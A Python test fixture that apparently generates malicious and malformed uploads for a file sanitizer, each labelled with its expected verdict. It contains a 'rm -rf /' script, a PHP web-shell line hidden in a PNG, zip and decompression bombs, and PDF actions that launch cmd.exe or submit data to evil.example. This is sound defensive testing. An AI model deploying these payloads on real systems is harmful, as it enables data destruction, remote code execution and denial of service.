"""Files made to harm whoever opens them, and files that came to harm: each with what must become of it."""
import io
import struct
import zipfile
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf
from PIL import Image

from tests.support.files import exif, noise, paper, photo

CLEAN = "clean"
SCRIPT = b"<script>alert(1)</script>"
PHOTO, PAPER = photo((400, 300), exif=exif()), paper()
NOISE = noise((600, 400))


def corpus() -> dict[str, tuple[bytes, str]]:
    """Return the files by name, each with its flaw or `CLEAN`."""
    return dict(_made({**_other_kinds(), **_pictures(), **_notes(), **_damaged_pictures(), **_papers(), **_damaged_papers()}))


def _made(table):
    for name, (content, fate) in table.items():
        yield name, (content() if callable(content) else content, fate)


def _other_kinds():
    """What is neither a photo nor a PDF, whatever it is called."""
    return {
        "nothing": (b"", "empty"), "one-byte": (b"\xff", "unknown"), "zeros": (bytes(5000), "truncated"),
        "html": (b"<!doctype html>" + SCRIPT, "unknown"), "program": (b"MZ\x90\0" + bytes(500), "unknown"),
        "elf": (b"\x7fELF" + bytes(500), "unknown"), "script": (b"#!/bin/sh\nrm -rf /\n", "unknown"),
        "svg": (b"<svg xmlns='http://www.w3.org/2000/svg'>" + SCRIPT + b"</svg>", "other-picture"),
        "gif-and-script": (b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)", "other-picture"),
        "webp": (b"RIFF\x24\0\0\0WEBPVP8 " + bytes(40), "other-picture"),
        "tiff": (b"II*\0\x08\0\0\0" + bytes(40), "other-picture"), "bmp": (b"BM" + bytes(60), "other-picture"),
        "avif": (b"\0\0\0\x1cftypavif" + bytes(40), "other-picture"),
        "heic": (b"\0\0\0\x18ftypheic" + bytes(40), "heic"), "heif": (b"\0\0\0\x18ftypmif1" + bytes(40), "heic"),
        "mp4": (b"\0\0\0\x20ftypisom" + bytes(40), "video"), "mov": (b"\0\0\0\x14ftypqt  " + bytes(40), "video"),
        "webm": (b"\x1aE\xdf\xa3" + bytes(40), "video"), "avi": (b"RIFF\0\0\0\0AVI LIST", "video"),
        "zip-bomb": (lambda: _zip("bomb.txt", bytes(5_000_000)), "archive"), "rar": (b"Rar!\x1a\x07\0", "archive"),
        "docx": (lambda: _zip("word/document.xml", b"<w:document/>"), "office"),
        "doc": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500), "office"),
        "rtf": (b"{\\rtf1 {\\object\\objdata 0105}}", "office"),
    }


def _pictures():
    """Pictures that are larger, stranger or more than they seem."""
    return {
        "png-bomb": (lambda: _png(30000, 30000, rows=3000), "too-many-pixels"),
        "png-that-lies": (lambda: _png(60000, 60000, rows=1), "too-many-pixels"),
        "png-of-two-thousand-million": (lambda: _png(2**31 - 1, 64, rows=1), "too-many-pixels"),
        "png-just-allowed": (lambda: _png(6300, 6300, colour=6), CLEAN),
        "grey-just-allowed": (lambda: _png(6300, 6300, depth=16), CLEAN),
        "png-that-inflates-for-ever": (lambda: _png(200, 200, rows=3_000_000), CLEAN),
        "png-without-width": (lambda: _png(0, 100), "damaged"),
        "jpeg-that-lies": (lambda: _with_size(NOISE, 60000, 60000), "too-many-pixels"),
        "jpeg-larger-than-it-is": (lambda: _with_size(NOISE, 8000, 8000), CLEAN),
        "ribbon": (lambda: photo((20000, 3)), "too-small"), "dot": (lambda: photo((1, 1)), "too-small"),
        "many-scans": (lambda: _many_scans(4000), "too-much-inside"),
        "cmyk": (lambda: _jpeg(Image.new("CMYK", (100, 100), (10, 200, 30, 0))), CLEAN),
        "grey": (lambda: _jpeg(Image.new("L", (100, 100), 90)), CLEAN),
        "palette": (lambda: photo(kind="PNG", colour="red", bits=8), CLEAN),
        "palette-seen-through": (lambda: _saved(Image.new("P", (100, 100), 3), "PNG", transparency=3), CLEAN),
        "seen-through": (lambda: _saved(Image.new("RGBA", (100, 100), (0, 0, 255, 0)), "PNG"), CLEAN),
        "sixteen-bits-grey": (lambda: _saved(Image.new("I;16", (100, 100), 40000), "PNG"), CLEAN),
        "sixteen-bits-colour": (lambda: _png(100, 100, depth=16, colour=2), CLEAN),
        "one-bit": (lambda: _saved(Image.new("1", (100, 100), 1), "PNG"), CLEAN),
        "animated": (lambda: _animated(), CLEAN), "two-in-one": (lambda: _several(), CLEAN),
        "progressive": (lambda: noise((300, 200), progressive=True), CLEAN),
        "rotated": (lambda: photo((400, 300), exif=exif(orientation=6)), CLEAN),
        "jpeg-and-page": (PHOTO + SCRIPT, CLEAN), "jpeg-and-zip": (lambda: PHOTO + _zip("x.php", b"<?php"), CLEAN),
        "jpeg-and-pdf": (lambda: photo(comment=b"%PDF-1.7\n1 0 obj<</OpenAction 2 0 R>>endobj") + PAPER, CLEAN),
        "jpeg-and-script-inside": (lambda: photo(comment=b"*/" + SCRIPT), CLEAN),
        "png-and-program-inside": (lambda: _png(100, 100, chunks=[(b"tEXt", b"Comment\0<?php system($_GET[0]); ?>")]),
                                   CLEAN),
    }


def _notes():
    """Notes in a picture (EXIF, XMP, profiles) that turn in circles, lie, or never end. The picture is worth no less."""
    return {
        "exif-in-circles": (lambda: _with_exif(_tiff([(0x0112, 3, 1, 6)], following=8)), CLEAN),
        "exif-inside-itself": (lambda: _with_exif(_tiff([(0x8769, 4, 1, 8), (0x8825, 4, 1, 8)])), CLEAN),
        "exif-of-four-gigabytes": (lambda: _with_exif(_tiff([(0x010F, 2, 2**32 - 1, 26)])), CLEAN),
        "exif-with-many-entries": (lambda: _with_exif(_tiff([(0x0100, 3, 1, 1)], says=65535)), CLEAN),
        "exif-cut": (lambda: _with_exif(b"MM\0*\0\0\0"), CLEAN),
        "orientation-99": (lambda: photo(exif=exif(orientation=99)), CLEAN),
        "day-that-is-none": (lambda: photo(exif=exif(taken="0000:00:00 00:00:00", offset="+99:99")), CLEAN),
        "day-before-time": (lambda: photo(exif=exif(taken="0001:01:01 00:00:00", offset="+14:00")), CLEAN),
        "nowhere-on-earth": (lambda: photo(exif=exif(latitude=((99, 0, 0), "N"))), CLEAN),
        "ten-megabytes-of-notes": (lambda: PHOTO[:2] + _segment(0xE1, b"http://ns.adobe.com/xap/1.0/\0" + SCRIPT * 2400) * 160
                                   + PHOTO[2:], CLEAN),
        "note-that-inflates": (lambda: _png(100, 100, chunks=[(b"zTXt", b"a\0\0" + zlib.compress(bytes(5_000_000)))]), "damaged"),
        "profile-that-inflates": (lambda: _png(100, 100, chunks=[(b"iCCP", b"a\0\0" + zlib.compress(bytes(5_000_000)))]),
                                  "damaged"),
    }


def _damaged_pictures():
    """Photos whose copy was cut, at many places, or changed on the way."""
    whole_png = _saved(Image.open(io.BytesIO(NOISE)), "PNG")
    cut = {f"jpeg-cut-at-{part}%": (NOISE[:len(NOISE) * part // 100], "truncated") for part in (5, 20, 50, 80, 99)}
    cut |= {f"png-cut-at-{part}%": (whole_png[:len(whole_png) * part // 100], "truncated") for part in (20, 50, 99)}
    return cut | {
        "jpeg-cut-in-its-head": (NOISE[:100], "damaged"), "jpeg-without-end": (NOISE[:-2], "truncated"),
        "jpeg-cut-and-filled": (NOISE[:30000] + bytes(60000), "truncated"),
        "jpeg-of-noise": (b"\xff\xd8\xff\xe0" + bytes(range(256)) * 40, "damaged"),
        "png-of-noise": (b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 40, "damaged"),
        "png-with-a-wrong-sum": (whole_png[:29] + bytes([whole_png[29] ^ 255]) + whole_png[30:], "damaged"),
    }


def _papers():
    """PDFs that act, hide, or hold too much."""
    return {
        "script-at-opening": (lambda: _pdf(lambda pdf: _set(pdf.Root, OpenAction=_act("JavaScript", JS="app.alert(1)"))), CLEAN),
        "script-by-name": (lambda: _pdf(lambda pdf: _set(pdf.Root, Names=Dictionary(JavaScript=Dictionary(
            Names=Array(["a", _act("JavaScript", JS="app.alert(1)")]))))), CLEAN),
        "program-at-a-touch": (lambda: _pdf(_with_link(_act("Launch", F="cmd.exe"))), CLEAN),
        "link": (lambda: _pdf(_with_link(_act("URI", URI="https://evil.example"))), CLEAN),
        "other-file": (lambda: _pdf(_with_link(_act("GoToR", F="//evil.example/x.pdf"))), CLEAN),
        "sends-itself": (lambda: _pdf(_with_link(_act("SubmitForm", F="https://evil.example"))), CLEAN),
        "page-that-acts": (lambda: _pdf(lambda pdf: _set(pdf.pages[0].obj, AA=Dictionary(
            O=_act("JavaScript", JS="app.alert(1)")))), CLEAN),
        "file-inside": (lambda: _pdf(_embed), CLEAN),
        "form-in-xml": (lambda: _pdf(lambda pdf: _set(pdf.Root, AcroForm=Dictionary(
            Fields=Array(), XFA=pdf.make_stream(b"<xdp:xdp>evil.example</xdp:xdp>")))), CLEAN),
        "form-filled": (lambda: _pdf(_filled), CLEAN),
        "pdf-and-zip": (lambda: PAPER + _zip("x.php", b"<?php evil.example"), CLEAN),
        "page-and-pdf": (lambda: b"<html>" + SCRIPT + b"\n" + PAPER, CLEAN),
        "locked": (lambda: _pdf(lambda _: None, encryption=pikepdf.Encryption(user="secret", owner="o")), "locked"),
        "half-locked": (lambda: _pdf(lambda _: None, encryption=pikepdf.Encryption(user="", owner="o")), CLEAN),
        "too-many-pages": (lambda: paper(41), "too-many-pages"), "without-page": (lambda: paper(0), "no-page"),
        "content-that-inflates": (lambda: _pdf(_bomb(lambda content: zlib.compress(content, 1), Name.FlateDecode)), "too-much-inside"),
        "content-that-inflates-twice": (lambda: _pdf(_bomb(
            lambda content: zlib.compress(zlib.compress(content, 1), 9), Array([Name.FlateDecode, Name.FlateDecode]))),
            "too-much-inside"),
        "picture-too-large": (lambda: _pdf(_picture(Width=40000, Height=40000)), "too-much-inside"),
        "content-elsewhere": (lambda: _pdf(_picture(Width=1, Height=1, F="//evil.example/x")), "damaged"),
        "postscript": (lambda: _pdf(_picture(Subtype=Name.PS)), "damaged"),
    }


def _damaged_papers():
    """PDFs that turn in circles, or are not whole."""
    page = PAPER.replace(b"/Kids", b"/Kid5", 1)
    return {
        "pdf-cut-in-half": (PAPER[:len(PAPER) // 2], "truncated"), "pdf-without-end": (PAPER[:-8], "truncated"),
        "pdf-in-name": (b"%PDF-1.7\n<html>" + SCRIPT, "truncated"),
        "pdf-of-noise": (b"%PDF-1.7\n" + bytes(range(256)) * 20 + b"%%EOF", "damaged"),
        "pages-without-pages": (page, "damaged"),
        "table-in-circles": (_written(["<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[]/Count 0>>"], prev=True), "damaged"),
        "pages-in-circles": (_written(["<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>"]), "damaged"),
        "a-thousand-million-pages": (_written(["<</Type/Catalog/Pages 2 0 R>>",
                                               "<</Type/Pages/Kids[]/Count 1000000000>>"]), "no-page"),
        "deep": (_written(["<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[3 0 R]/Count 1>>",
                           "<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Resources" + "<</A" * 3000 + "1" + ">>" * 3000 + ">>"]),
                 "no-page"),
        "page-that-is-its-own-parent": (_written(["<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[3 0 R]/Count 1>>",
                                                  "<</Type/Page/Parent 3 0 R/MediaBox[0 0 9 9]>>"]), CLEAN),
    }


def _zip(name, content):
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, content)
    return written.getvalue()


def _png(width, height, rows=None, depth=0, colour=0, chunks=()):
    """Write a PNG by hand: what it says of itself need not be true."""
    depth = depth or (8 if colour else 1)
    bits = depth * {0: 1, 2: 3, 6: 4}[colour]
    row = bytes(1 + min((width * bits + 7) // 8, 100_000))
    parts = [(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)), *chunks,
             (b"IDAT", zlib.compress(row * (height if rows is None else rows), 1)), (b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))
        for kind, content in parts)


def _saved(picture, kind, **options):
    written = io.BytesIO()
    picture.save(written, kind, **options)
    return written.getvalue()


def _jpeg(picture):
    return _saved(picture, "JPEG")


def _segment(marker, content):
    return struct.pack(">BBH", 0xFF, marker, len(content) + 2) + content


def _with_exif(tiff):
    plain = photo((200, 100))
    return plain[:2] + _segment(0xE1, b"Exif\0\0" + tiff) + plain[2:]


def _tiff(entries, following=0, says=None):
    """Write the notes of a camera by hand: entries (tag, type, count, value), then where the next ones would be."""
    lines = b"".join(struct.pack("<HHII", *entry) for entry in entries)
    return b"II*\0\x08\0\0\0" + struct.pack("<H", says or len(entries)) + lines + struct.pack("<I", following)


def _with_size(jpeg, width, height):
    """Make a JPEG say that it is larger than it is."""
    place = jpeg.index(b"\xff\xc0")
    return jpeg[:place + 5] + struct.pack(">HH", height, width) + jpeg[place + 9:]


def _many_scans(count):
    """Return a progressive JPEG whose last pass over a large picture is repeated: small, and long to decode."""
    plain = _saved(Image.new("RGB", (6000, 6000), "grey"), "JPEG", progressive=True)
    last = plain.rindex(b"\xff\xda")
    return plain[:last] + plain[last:-2] * count + plain[-2:]


def _animated():
    frames = [Image.new("RGB", (100, 100), (shade, 0, 0)) for shade in range(0, 250, 10)]
    return _saved(frames[0], "PNG", save_all=True, append_images=frames[1:])


def _several():
    return _saved(Image.new("RGB", (100, 100), "red"), "MPO", save_all=True, append_images=[Image.new("RGB", (100, 100), "blue")])


def _pdf(change, **options):
    with Pdf.open(io.BytesIO(PAPER)) as pdf:
        change(pdf)
        written = io.BytesIO()
        pdf.save(written, fix_metadata_version=False, **options)
    return written.getvalue()


def _set(where, **values):
    for name, value in values.items():
        where["/" + name] = value


def _act(kind, **values):
    return Dictionary(S=Name("/" + kind), **values)


def _with_link(action):
    def change(pdf):
        pdf.pages[0].obj["/Annots"] = Array([pdf.make_indirect(Dictionary(
            Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 595, 842]), A=action))])

    return change


def _embed(pdf):
    pdf.attachments["virus.exe"] = b"MZ evil.example"
    pdf.pages[0].obj["/Annots"] = Array([Dictionary(
        Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 9, 9]), FS=pdf.attachments["virus.exe"].obj)])


def _filled(pdf):
    """Fill a field of a form: what was typed must still be read once the form is gone."""
    font = pdf.pages[0].Resources.Font.F1
    look = pdf.make_stream(b"BT /F1 12 Tf 2 2 Td (FR76 typed here) Tj ET", Type=Name.XObject, Subtype=Name.Form,
                           BBox=Array([0, 0, 200, 20]), Resources=Dictionary(Font=Dictionary(F1=font)))
    field = pdf.make_indirect(Dictionary(
        Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T="iban", V="FR76 typed here", Rect=Array([72, 600, 272, 620]),
        F=4, AP=Dictionary(N=look), AA=Dictionary(K=_act("JavaScript", JS="evil.example"))))
    pdf.pages[0].obj["/Annots"] = Array([field])
    pdf.Root["/AcroForm"] = Dictionary(Fields=Array([field]), DR=Dictionary(Font=Dictionary(F1=font)))


def _bomb(pack, filters):
    def change(pdf):
        stream = pdf.make_stream(b"")
        stream.write(pack(b" " * 250_000_000), filter=filters)
        pdf.pages[0].obj["/Contents"] = stream

    return change


def _picture(**values):
    def change(pdf):
        stream = pdf.make_stream(b"\0", **{"Type": Name.XObject, "Subtype": Name.Image, "ColorSpace": Name.DeviceGray,
                                           "BitsPerComponent": 8} | values)
        pdf.pages[0].Resources["/XObject"] = Dictionary(I0=stream)

    return change


def _written(objects, prev=False):
    """Write a PDF by hand, its objects numbered from 1; `prev`: its table says that the one before it is itself."""
    body, places = b"%PDF-1.7\n", []
    for number, text in enumerate(objects, 1):
        places.append(len(body))
        body += f"{number} 0 obj\n{text}\nendobj\n".encode()
    table = f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n" + "".join(f"{place:010} 00000 n \n" for place in places)
    again = f"/Prev {len(body)}" if prev else ""
    return body + f"{table}trailer\n<</Size {len(objects) + 1}/Root 1 0 R{again}>>\nstartxref\n{len(body)}\n%%EOF\n".encode()
